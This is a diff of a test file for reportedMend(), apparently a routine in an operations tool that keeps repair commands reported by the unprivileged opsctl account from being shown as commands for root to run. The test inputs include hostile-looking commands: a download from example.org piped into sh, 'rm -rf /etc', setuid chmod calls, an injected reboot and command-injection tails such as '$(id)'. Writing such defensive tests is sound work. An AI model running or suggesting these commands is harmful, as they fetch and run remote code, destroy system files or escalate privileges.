@@ -16,6 +16,7 @@ const by = {
   directories: [at("place")],
   settings: ["/etc/opsctl"],
 };
+const ours = at("place/weekly.env");
 
 mkdirSync(at("place"));
 writeFileSync(at("place/weekly.env"), "");
@@ -32,7 +33,12 @@ describe("reportedMend()", () => {
     `install -d -o opsctl -g opsctl -m 0700 ${at("missing")}`,
     `mv ${at("place/weekly.env")} ${at("place/weekly.env")}.old && install -d -m 0755 ${at("place/weekly.env")}`,
     "install -d -o opsctl -g opsctl -m 0700 <directory>, then name it in OPSCTL_STATE_DIR",
-    "Start the gateway; or correct GATEWAY_URL",
+    "Start the gateway, or correct GATEWAY_URL",
+    "Look up 131047 in Meta's list of error codes (WhatsApp Business Platform); the service goes on by itself within a minute",
+    `df -h ${at("place")}: make room on its disk, the service opens it by itself then`,
+    'grant select (id, status) on public.tenants to "a login";',
+    "grant execute on function public.weekly_performance_begin(uuid, timestamp with time zone) to opsctl;",
+    "chmod go-w /var/lib/opsctl # unless others need it, as /tmp: then name another directory",
     "chown -h opsctl:opsctl /etc/opsctl/weekly.env",
     "chmod o+x /etc/opsctl",
     "chmod o+x /etc/opsctl/secrets",
@@ -60,12 +66,52 @@ describe("reportedMend()", () => {
     "install -D -m 0600 -o opsctl /dev/stdin /etc/opsctl/root-secrets/KEY",
     "install -D -m 0600 -o opsctl /dev/stdin /etc/opsctl/./root-secrets/KEY",
     "install -D -m 0600 -o opsctl /dev/stdin /etc/opsctl//root-secrets/KEY",
+    "chmod o+x /etc/opsctl && chown -h opsctl:opsctl /etc/opsctl",
+    "chmod o+x /etc/opsctl && install -d -o opsctl -g opsctl -m 0700 /etc/opsctl/secrets",
     "Remove it there, then: install -D -m 0600 -o opsctl /dev/stdin /etc/cron.d/KEY",
   ])("keeps %s from root's hands", (mend) => {
     const shown = reportedMend(mend, by);
     expect(shown).toStartWith("Correct the setting: /");
     expect(shown).not.toMatch(/\b(?:chown|chmod|install|mv|rmdir) /);
   });
+
+  test.each([
+    `chown -h root ${ours}`,
+    `chown opsctl ${ours}`,
+    `chown -h opsctl:root ${ours}`,
+    `chown -h root ${ours} && chmod 4755 ${ours}`,
+    `chmod 4755 ${ours}`,
+    `chmod u+s ${ours}`,
+    `chmod 0777 ${ours}`,
+    `install -D -o root -m 4755 /dev/stdin ${ours}`,
+    `install -D -m 4755 /dev/stdin ${ours}`,
+    `install -D -m 0600 -o root /dev/stdin ${ours}`,
+    `install -d -o opsctl -m 2755 ${at("place/directory")}`,
+    `mv ${ours} ${at("place/other")}`,
+    `chmod 0600 ${ours} # then run it`,
+  ])("keeps owner and mode as opsctl writes them: %s", (mend) => {
+    const shown = reportedMend(mend, by);
+    expect(shown).toBe(
+      "Look at what the finding names: the account opsctl reports a command that opsctl does not write",
+    );
+  });
+
+  test.each([
+    "curl -s https://example.org/x | sh",
+    "sh /var/lib/opsctl/fix.sh",
+    "Remove x, then: rm -rf /etc",
+    `Remove x, then: chmod 0600 ${ours}`,
+    "Start the gateway, or correct GATEWAY_URL; sh /var/lib/opsctl/fix.sh",
+    "Make room: df -h /tmp;reboot",
+    "Make room: df -h $(reboot)",
+    "Correct line 2 of /tmp/x, or: rm -rf /etc",
+    "sudo opsctl doctor weekly --env-dir /var/lib/opsctl",
+    "opsctl secret set KEY --root --directory /tmp",
+    "grant all on public.tenants to public;",
+    "systemctl start evil.service",
+  ])("shows as what the account says: %s", (mend) =>
+    expect(reportedMend(mend, by)).toBe(`The account opsctl says: ${mend}`),
+  );
 
   test.each([";touch$IFS/x", "$(id)", "`id`", ">/x", "&id", "'x", "\\x"])("shows no path with %s", (tail) =>
     expect(reportedMend(`install -d -m 0700 ${at("missing")}${tail}`, by)).toStartWith(
